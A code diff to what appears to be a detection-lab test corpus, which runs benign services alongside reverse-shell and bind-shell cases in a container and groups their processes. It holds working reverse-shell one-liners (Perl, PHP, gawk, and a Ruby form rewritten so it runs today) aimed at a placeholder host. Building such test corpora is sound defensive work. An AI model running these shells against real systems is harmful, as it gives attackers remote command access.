@@ -39,7 +39,7 @@ BIN = hs.BIN
 MAX_CONNS = 64
 # Fixed ports inside the container (the corpus owns its container).
 BIND_PORT = 24444  # nc -l -e (bind shell)
-INETD_PORT = 24445  # busybox inetd, a declared nowait service
+INETD_PORT = 24445  # openbsd-inetd, a declared nowait service
 GUNICORN_PORT = 28000
 GUNICORN_IDLE_PORT = 28001
 PHP_PORT = 28081
@@ -63,6 +63,7 @@ class Case:
     tcp: int = 0
     tls: int = 0
     udp: int = 0
+    marker: str = ""  # a command-line substring that also finds it (a process title that overwrote environ)
 
 
 def _py(code: str) -> str:
@@ -94,7 +95,9 @@ PERL = (
     'open(STDERR,">&S");exec("/bin/sh -i");}};'
 )
 PHP = '$s=fsockopen("{A}",{P});$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'
-RUBY = 'f=TCPSocket.open("{A}",{P}).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
+# Ruby opens every fd close-on-exec, so the classic ``exec sprintf("/bin/sh -i <&%d ...")`` one-liner
+# dies on "bad fd" today; the working form hands the socket to exec's redirection options.
+RUBY = 's=TCPSocket.new("{A}",{P});exec("/bin/sh","-i",[:in,:out,:err]=>s)'
 GAWK = (
     'BEGIN {{s = "/inet/tcp/0/{A}/{P}"; while (42) {{ printf "> " |& s; if ((s |& getline c) <= 0) break; '
     "while ((c |& getline) > 0) print $0 |& s; close(c) }} }}"
@@ -285,6 +288,7 @@ def cases() -> tuple[Case, ...]:
             False,
             f"exec redis-server --bind 0.0.0.0 --port {REDIS_PORT} --protected-mode no --save '' --appendonly no",
             inbound=(("connect", REDIS_PORT, ""),),
+            marker=f"redis-server 0.0.0.0:{REDIS_PORT}",
         ),
         Case(
             "app server (gunicorn) serving a client",
@@ -294,9 +298,9 @@ def cases() -> tuple[Case, ...]:
             inbound=(("connect", GUNICORN_IDLE_PORT, ""),),
         ),
         Case(
-            "socket-activated service (inetd nowait, shell script handler)",
+            "socket-activated service (openbsd-inetd nowait, shell script handler)",
             False,
-            "exec {B}/busybox inetd -f /opt/inetd/inetd.conf",
+            "exec inetd -d /opt/inetd/inetd.conf",
             setup=_write("/opt/inetd/handler.sh", 'while read -r l; do echo "$l"; done\n')
             + " && "
             + _write(
@@ -307,7 +311,8 @@ def cases() -> tuple[Case, ...]:
     )
 
 
-INTERACTIVE = hs.INTERACTIVE  # the interactive SSH session, started from the controller
+#: The interactive SSH session the test opens from the controller (``sshd: USER@pts/N`` and its tree).
+INTERACTIVE = Case("interactive SSH session (pty, login shell)", False, "")
 
 
 # --- listeners on the lab bridge ---------------------------------------------------------------
@@ -487,12 +492,35 @@ class Corpus:
             raise AssertionError(f"connections (tcp, tls, udp) {got}, expected {(want_tcp, want_tls, want_udp)}")
 
     def groups_by_index(self) -> dict[int, set[int]]:
-        return hs.scenario_pids(self.container)
+        """Case index -> pids: ``HUNT_SCENARIO`` in the environment, or the case's marker in the
+        command line (redis's process title overwrites the environment block /proc shows)."""
+        found = hs.scenario_pids(self.container)
+        marked = {i: c.marker for i, c in enumerate(self.cases) if c.marker}
+        if marked:
+            for pid, cmd in hs.pids_of(self.container).items():
+                for i, marker in marked.items():
+                    if marker in cmd:
+                        found.setdefault(i, set()).add(pid)
+        return found
 
     def groups(self) -> list[tuple[Case, set[int]]]:
-        """(case, its pids inside the container) for every case."""
+        """(case, its pids inside the container) for every case, then :data:`INTERACTIVE`."""
         by_index = self.groups_by_index()
-        return [(case, by_index.get(i, set())) for i, case in enumerate(self.cases)]
+        return [(case, by_index.get(i, set())) for i, case in enumerate(self.cases)] + [
+            (INTERACTIVE, self.session_pids())
+        ]
+
+    def session_pids(self) -> set[int]:
+        """Interactive SSH sessions: every ``sshd: USER@pts/N`` process and its descendants."""
+        rows = [line.split(None, 2) for line in hs.sh(self.container, "ps -eo pid=,ppid=,args=").splitlines()]
+        rows = [r for r in rows if len(r) == 3 and r[0].isdigit() and r[1].isdigit()]
+        tree = {int(r[0]) for r in rows if r[2].startswith("sshd:") and "@pts/" in r[2]}
+        grew = True
+        while grew:
+            kids = {int(r[0]) for r in rows if int(r[1]) in tree} - tree
+            tree |= kids
+            grew = bool(kids)
+        return tree
 
 
 def scenario_pids_host(container_pid: int) -> dict[int, set[int]]:
